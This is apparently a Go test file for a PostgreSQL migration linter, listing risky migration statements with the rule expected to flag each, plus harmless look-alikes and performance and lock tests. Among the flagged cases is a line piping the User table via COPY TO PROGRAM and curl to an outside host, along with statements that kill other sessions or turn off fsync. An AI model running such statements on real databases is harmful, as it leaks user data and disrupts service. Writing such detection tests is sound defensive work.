package migrate_test

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/axisor/axisor/pkg/migrate"
)

// upOf is a migration with one script as its Up part, whose first statement is on line 3.
func upOf(script string) string {
	return "-- +goose Up\nSET LOCAL lock_timeout = '5s';\n" + script + ";\n-- +goose Down\nSET LOCAL lock_timeout = '5s';\n"
}

func rulesOf(script string) (rules []string) {
	for _, r := range migrate.Lint("f.sql", upOf(script)) {
		rules = append(rules, r.Rule)
	}
	return rules
}

// dangerous are kinds of statements that hurt a database in use, after PostgreSQL's documentation of locks and rewrites
// and what other projects warn about; behind each the rule that names it.
const dangerous = `
CREATE INDEX i ON "TradeLog" (pnl) => index-not-concurrent
CREATE UNIQUE INDEX ON "User" (lower(username)) => index-not-concurrent
CREATE INDEX CONCURRENTLY i ON "TradeLog" (pnl) => concurrently-in-transaction
DROP INDEX idx_user_email => index-drop-not-concurrent
DROP INDEX IF EXISTS "idx_user email" => index-drop-not-concurrent
ALTER TABLE "Payment" ADD COLUMN memo text UNIQUE => key-without-index
ALTER TABLE "Payment" ADD memo bigint PRIMARY KEY => key-without-index
ALTER TABLE "Payment" ADD CONSTRAINT k UNIQUE (payment_hash) => key-without-index
ALTER TABLE "Payment" ADD UNIQUE (payment_hash) => key-without-index
ALTER TABLE "Payment" ADD CONSTRAINT k PRIMARY KEY (id) => key-without-index
ALTER TABLE "Payment" ADD CHECK (amount_sats < 100) => check-without-not-valid
ALTER TABLE "Payment" ADD COLUMN memo text CHECK (memo <> '') => check-without-not-valid
ALTER TABLE "Payment" ADD FOREIGN KEY (user_id) REFERENCES "User" (id) => foreign-key-without-not-valid
ALTER TABLE "Payment" ADD COLUMN by_user text REFERENCES "User" (id) => foreign-key-without-not-valid
ALTER TABLE "Payment" ADD CONSTRAINT x EXCLUDE USING gist (span WITH &&) => exclusion-constraint
ALTER TABLE "Payment" ADD COLUMN a int NOT NULL => column-not-null-without-default
ALTER TABLE "Payment" ADD COLUMN a int NOT NULL DEFAULT NULL => column-not-null-without-default
ALTER TABLE "Payment" ADD COLUMN a int NOT NULL DEFAULT NULL::int => column-not-null-without-default
ALTER TABLE "Payment" ADD COLUMN a uuid DEFAULT gen_random_uuid() => column-volatile-default
ALTER TABLE "Payment" ADD COLUMN a timestamptz DEFAULT (clock_timestamp() + interval '1 day') => column-volatile-default
ALTER TABLE "Payment" ADD COLUMN a text DEFAULT next_ticket() => column-volatile-default
ALTER TABLE "Payment" ADD COLUMN n serial => column-serial
ALTER TABLE "Payment" ADD COLUMN n bigint GENERATED ALWAYS AS IDENTITY => column-serial
ALTER TABLE "Payment" ADD COLUMN n bigint GENERATED ALWAYS AS (amount_sats * 1000) STORED => column-stored-generated
ALTER TABLE "Payment" ADD COLUMN n json => column-json
ALTER TABLE "Payment" ADD IF NOT EXISTS n int => column-if-not-exists
ALTER TABLE "TradeLog" DROP pnl => column-drop
ALTER TABLE "TradeLog" DROP COLUMN IF EXISTS "the pnl" => column-drop
ALTER TABLE "TradeLog" DROP COLUMN pnl CASCADE => cascade
ALTER TABLE "TradeLog" DROP CONSTRAINT c CASCADE => cascade
ALTER TABLE "TradeLog" ALTER pnl SET NOT NULL => not-null-without-check
ALTER TABLE "TradeLog" ALTER pnl TYPE numeric => type-change
ALTER TABLE "TradeLog" ALTER COLUMN pnl SET DATA TYPE numeric USING pnl::numeric => type-change
ALTER TABLE "TradeLog" RENAME pnl TO profit => rename
ALTER TABLE "Trade Log" RENAME TO trades => rename
ALTER TYPE "PlanType" RENAME TO plan => rename
ALTER TYPE "PlanType" RENAME VALUE 'pro' TO 'expert' => rename
ALTER VIEW v RENAME TO w => rename
ALTER SCHEMA axisor RENAME TO ours => rename
ALTER FUNCTION f() RENAME TO g => rename
ALTER TABLE "TradeLog" SET SCHEMA archive => schema-change
ALTER TABLE "TradeLog" SET UNLOGGED => set-logged
ALTER TABLE "TradeLog" SET TABLESPACE slow => set-logged
ALTER TABLE "TradeLog" SET (autovacuum_enabled = false) => autovacuum-off
ALTER TABLE "TradeLog" REPLICA IDENTITY NOTHING => replica-identity
ALTER TABLE "TradeLog" INHERIT parent => inheritance
ALTER TABLE trades ATTACH PARTITION old FOR VALUES FROM (1) TO (2) => partition-attach
ALTER TABLE trades DETACH PARTITION old => partition-detach
ALTER TABLE "TradeLog" DISABLE TRIGGER USER => trigger-disabled
ALTER TABLE "TradeLog" DISABLE ROW LEVEL SECURITY => row-security-off
ALTER TABLE "TradeLog" ENABLE ROW LEVEL SECURITY => row-security-without-policy
ALTER TABLE "TradeLog" FORCE ROW LEVEL SECURITY => force-row-security
ALTER TABLE "TradeLog" OWNER TO somebody => owner-change
ALTER TABLE "TradeLog" ALTER id DROP IDENTITY => identity-drop
ALTER DOMAIN d ADD CONSTRAINT c CHECK (value > 0) => check-without-not-valid
DROP TABLE IF EXISTS "Simulation" => table-drop
DROP SCHEMA archive => table-drop
DROP OWNED BY somebody => table-drop
DROP VIEW v CASCADE => cascade
DROP SEQUENCE s => sequence-drop
DROP TYPE "PlanType" => enum-rewrite
DROP TRIGGER note ON "User" => trigger-drop
DROP POLICY own_rows ON "User" => policy-drop
DROP EXTENSION pgcrypto => extension-drop
TRUNCATE "TradeLog", "Payment" => truncate
UPDATE "User" SET is_active = true => unbounded-update
UPDATE "User" SET is_active = true WHERE true => unbounded-update
DELETE FROM "TradeLog" WHERE 1 = 1 => unbounded-update
WITH gone AS (DELETE FROM "TradeLog" RETURNING *) SELECT count(*) FROM gone => unbounded-update
DO $$ BEGIN DELETE FROM "TradeLog"; END $$ => unbounded-update
DO $x$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident('Plan'); END $x$ => table-drop
DO $$ BEGIN IF true THEN EXECUTE format('ALTER TABLE %I ALTER a TYPE bigint', 'Plan'); END IF; END $$ => type-change
SELECT id FROM "User" FOR UPDATE => unbounded-lock
CREATE TABLE backup AS TABLE "User" => copy-of-a-table
SELECT * INTO backup FROM "User" => copy-of-a-table
CREATE MATERIALIZED VIEW m AS SELECT * FROM "User" => copy-of-a-table
COPY "User" TO PROGRAM 'curl -T - example.com' => copy
CREATE UNLOGGED TABLE cache (a int) => unlogged-table
CREATE TABLE child () INHERITS ("User") => inheritance
CREATE VIEW accounts AS SELECT id, user_id FROM "UserExchangeAccounts" => view-past-row-security
CREATE RULE r AS ON DELETE TO "User" DO INSTEAD NOTHING => rewrite-rule
CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f() => event-trigger
CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1' => definer-without-path
CREATE POLICY p ON "Plan" TO authenticated USING (true) => policy-without-check
CREATE POLICY p ON "Plan" FOR SELECT USING (true) => policy-for-everybody
GRANT SELECT ON "User" TO authenticated, PUBLIC => grant-to-public
GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA public TO PUBLIC => grant-to-public
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO support => default-privileges
CREATE ROLE eva LOGIN PASSWORD 'hunter2' => password-in-file
ALTER ROLE authenticated BYPASSRLS => role-rights
DROP ROLE authenticated => server-wide
ALTER SYSTEM SET fsync = off => server-wide
CREATE DATABASE other => server-wide
ALTER DATABASE axisor SET search_path = a => server-wide
VACUUM FULL "TradeLog" => heavy-maintenance
CLUSTER "TradeLog" USING "TradeLog_pkey" => heavy-maintenance
REINDEX TABLE "TradeLog" => heavy-maintenance
REFRESH MATERIALIZED VIEW m => heavy-maintenance
LOCK TABLE "TradeLog" => lock-table
COMMIT => transaction-control
SET search_path = archive => session-setting
SELECT set_config('search_path', 'archive', false) => session-setting
SET LOCAL session_replication_role = replica => trigger-disabled
SET LOCAL lock_timeout = 0 => setting-hurts
SELECT pg_advisory_lock(1) => session-lock
SELECT pg_sleep(10) => sleep
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid() => ends-others
ALTER SEQUENCE s RESTART WITH 1 => sequence-set
SELECT setval('s', 1) => sequence-set
CREATE SUBSCRIPTION s CONNECTION 'host=h' PUBLICATION p => replication
SELECT current_setting('app.current_user_id') => setting-not-optional
ALTER TYPE "PlanType" ADD VALUE 'gold'; INSERT INTO "Plan" (slug) VALUES ('gold') => new-enum-value-used
ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0) NOT VALID; ALTER TABLE t VALIDATE CONSTRAINT c => validate-in-same-transaction
ALTER TABLE "User" ADD COLUM x int => syntax-error
`

// harmless are statements that look like the others and hurt nobody.
const harmless = `
CREATE TABLE t (a int PRIMARY KEY, b text UNIQUE, c int CHECK (c > 0)); CREATE INDEX ON t (b)
CREATE TABLE t (a text NOT NULL REFERENCES "User" (id), n bigint GENERATED ALWAYS AS IDENTITY)
CREATE TABLE t (a int); ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0); UPDATE t SET a = 1; DROP TABLE t
CREATE TEMPORARY TABLE t (a int)
ALTER TABLE "User" ADD COLUMN note text
ALTER TABLE "User" ADD note text DEFAULT 'DROP TABLE x'
ALTER TABLE "User" ADD COLUMN a int NOT NULL DEFAULT 0, ADD COLUMN b timestamptz DEFAULT now()
ALTER TABLE "User" ADD COLUMN a timestamp NOT NULL DEFAULT CURRENT_TIMESTAMP
ALTER TABLE "User" ADD COLUMN a jsonb NOT NULL DEFAULT '{}'::jsonb
ALTER TABLE "User" ALTER note DROP NOT NULL, ALTER note SET DEFAULT 'a', ALTER note DROP DEFAULT
ALTER TABLE "User" ALTER email SET STATISTICS 500
ALTER TABLE "User" SET (autovacuum_vacuum_scale_factor = 0.05, fillfactor = 90)
ALTER TABLE "User" ADD CONSTRAINT c CHECK (note <> 'CASCADE') NOT VALID
ALTER TABLE "User" ADD CONSTRAINT k UNIQUE USING INDEX i
ALTER TABLE "User" VALIDATE CONSTRAINT c
ALTER TABLE "User" DROP CONSTRAINT c
ALTER TABLE "User" RENAME CONSTRAINT a TO b
ALTER INDEX a RENAME TO b
ALTER TYPE "PlanType" ADD VALUE IF NOT EXISTS 'gold'
COMMENT ON TABLE "User" IS 'do not TRUNCATE; DROP TABLE never'
CREATE POLICY "FOR ALL TO PUBLIC" ON "Plan" FOR ALL TO authenticated USING (true) WITH CHECK (true); ALTER TABLE "Plan" ENABLE ROW LEVEL SECURITY
DROP POLICY own_rows ON "User"; CREATE POLICY own_rows ON "User" FOR SELECT TO authenticated USING (false)
CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM "User"; PERFORM pg_sleep(1); RETURN NEW; END $$
CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog AS 'SELECT 1'
CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END
CREATE VIEW v WITH (security_invoker = true) AS SELECT id FROM "User"
CREATE VIEW v AS SELECT slug FROM "Plan"; DROP VIEW v
INSERT INTO "Plan" (slug, name) VALUES ('cascade', 'DELETE FROM "User"') ON CONFLICT (slug) DO UPDATE SET name = excluded.name
UPDATE "Plan" SET features = '{"TRUNCATE": 1}' WHERE slug = 'pro'
DELETE FROM "RefreshToken" WHERE expires_at < now() - interval '1 year'
WITH old AS (SELECT id FROM "RefreshToken" WHERE is_revoked LIMIT 100) DELETE FROM "RefreshToken" r USING old WHERE r.id = old.id
SELECT id FROM "Plan" WHERE slug = 'pro' FOR UPDATE
SELECT pg_advisory_xact_lock(1); SELECT set_config('work_mem', '64MB', true)
SELECT NULLIF(current_setting('app.current_user_id', true), '')
DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM "Plan"; RAISE NOTICE 'DROP TABLE %', n; END $$
DO $$ BEGIN EXECUTE format('ALTER TABLE %I ADD COLUMN note text', 'Plan'); END $$
GRANT SELECT ON "Plan" TO authenticated; REVOKE ALL ON "Plan" FROM PUBLIC
SET LOCAL work_mem = '64MB'; SET CONSTRAINTS ALL IMMEDIATE; SAVEPOINT a; RELEASE SAVEPOINT a
ANALYZE "User"
CREATE SEQUENCE s; ALTER SEQUENCE s OWNED BY "Plan".sort_order
CREATE TYPE mood AS ENUM ('drop', 'truncate')
CREATE STATISTICS s (dependencies) ON user_id, status FROM "TradeLog"
`

func TestLint_KnowsTheDangerousKindsAndNoOthers(t *testing.T) {
	t.Parallel()
	var missed []string
	cases := strings.Split(strings.TrimSpace(dangerous), "\n")
	require.GreaterOrEqual(t, len(cases), 81)
	for _, line := range cases {
		script, rule, _ := strings.Cut(line, " => ")
		if found := rulesOf(script); !slices.Contains(found, rule) {
			missed = append(missed, fmt.Sprintf("%s: %s, not %v", script, rule, found))
		}
	}
	require.Empty(t, missed)
	quiet := strings.Split(strings.TrimSpace(harmless), "\n")
	require.GreaterOrEqual(t, len(quiet), 24)
	for _, script := range quiet {
		require.Empty(t, migrate.Lint("f.sql", upOf(script)), script)
	}
	require.Empty(t, migrate.Lint("f.sql", "-- +goose NO TRANSACTION\n-- +goose Up\nCREATE INDEX CONCURRENTLY \"an index\" ON \"User\" (note);\n-- +goose Down\nDROP INDEX CONCURRENTLY \"an index\";\n"))
}

// Reading many statements takes a second or two, most of it once for the grammar. The limit is wide, so that a busy
// machine passes; what reads the text of each statement again and again took minutes.
func TestLint_ReadsManyStatements(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	for i := range 20_000 {
		fmt.Fprintf(&b, "INSERT INTO \"Plan\" (slug, name) VALUES ('s%d', 'it''s; %d');\n", i, i)
	}
	began := time.Now()
	remarks := migrate.Lint("f.sql", upOf(b.String()+"DROP TABLE t"))
	t.Logf("20000 statements in %s", time.Since(began))
	require.Len(t, remarks, 1)
	require.Equal(t, 20_003, remarks[0].Line)
	require.Less(t, time.Since(began), time.Minute)
}

func TestLocks_SumUpATransaction(t *testing.T) {
	t.Parallel()
	raw, err := os.ReadFile("testdata/locks.sql")
	require.NoError(t, err)
	var found []string
	for _, l := range migrate.Locks("f.sql", string(raw)) {
		found = append(found, fmt.Sprintf("%s %d-%d %s %s", l.Direction, l.Line, l.Until, l.Mode, l.Table))
	}
	require.Equal(t, []string{
		"up 3-13 SHARE UPDATE EXCLUSIVE Payment",
		"up 4-13 ACCESS EXCLUSIVE TradeLog",
		"up 5-13 SHARE ROW EXCLUSIVE Automation",
		"up 5-13 SHARE ROW EXCLUSIVE User",
		"up 8-13 ROW EXCLUSIVE Plan",
		"up 8-13 ACCESS SHARE axisor.guard_run",
		"up 10-13 ACCESS EXCLUSIVE Exchange",
		"up 11-13 EXCLUSIVE Simulation",
		"up 13-13 ACCESS EXCLUSIVE the table of i",
		"down 17-17 ACCESS EXCLUSIVE User",
	}, found)
}
